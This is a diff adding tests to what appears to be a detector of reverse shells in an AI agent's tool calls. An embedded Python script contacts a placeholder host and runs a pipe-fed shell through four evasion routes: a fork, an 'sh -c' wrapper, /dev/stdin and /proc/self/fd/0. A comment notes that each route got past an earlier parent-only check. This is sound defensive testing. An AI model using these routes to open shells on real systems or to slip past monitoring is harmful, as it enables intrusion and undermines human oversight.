@@ -185,3 +185,31 @@ python3 b.py; echo done`);
   const piped = s.events.filter((e) => e.kind === 'exec' && Array.isArray(e.payload.stdio_pipe) && (e.payload.stdio_pipe as number[]).includes(0));
   assert.ok(piped.length >= 2, JSON.stringify(s.events.filter((e) => e.kind === 'exec').map((e) => [e.payload.argv, e.payload.stdio_pipe])));
 });
+
+// (a fourth review, session 41: the connecting process forked first, or a `sh -c 'sh; true'` stood between it and
+//  the shell, or the shell's script was stdin under another name — each got past a parent-only check)
+const RELAY_PY = `import os, socket, subprocess, sys
+mode = sys.argv[1]
+s = socket.create_connection(("198.51.100.10", 80), timeout=3)
+s.sendall(b"GET / HTTP/1.0\\r\\nHost: registry.test\\r\\n\\r\\n"); s.recv(4096)
+def run(argv):
+    p = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+    print(mode, p.communicate(b"echo ran-$$\\n", timeout=5)[0].decode().strip())
+if mode == "fork":
+    pid = os.fork()
+    if pid == 0:
+        run(["/bin/sh"]); sys.stdout.flush(); os._exit(0)
+    os.waitpid(pid, 0)
+elif mode == "wrap": run(["/bin/sh", "-c", "sh; true"])
+elif mode == "devstdin": run(["/bin/sh", "/dev/stdin"])
+else: run(["/bin/bash", "/proc/self/fd/0"])`;
+
+for (const mode of ['fork', 'wrap', 'devstdin', 'bashfd']) {
+  test(`a relayed shell the connecting process reaches through a fork, a wrapper or stdin's other names: ${mode}`, async () => {
+    const { r, alerts } = await oneCall(`cat > relay.py <<'EOF'\n${RELAY_PY}\nEOF\npython3 relay.py ${mode}; echo done`);
+    assert.match(r.stdout, new RegExp(`${mode} ran-\\d+\\ndone`));
+    const shells = alerts.filter((a) => a.payload.category === 'reverse_shell');
+    assert.ok(shells.some((a) => rulesOf(a).includes('network_fed_shell')), JSON.stringify(alerts.map((a) => [a.payload.category, rulesOf(a), a.payload.message])));
+    assert.ok(shells.every((a) => a.tool_call === 'call-1'));
+  });
+}
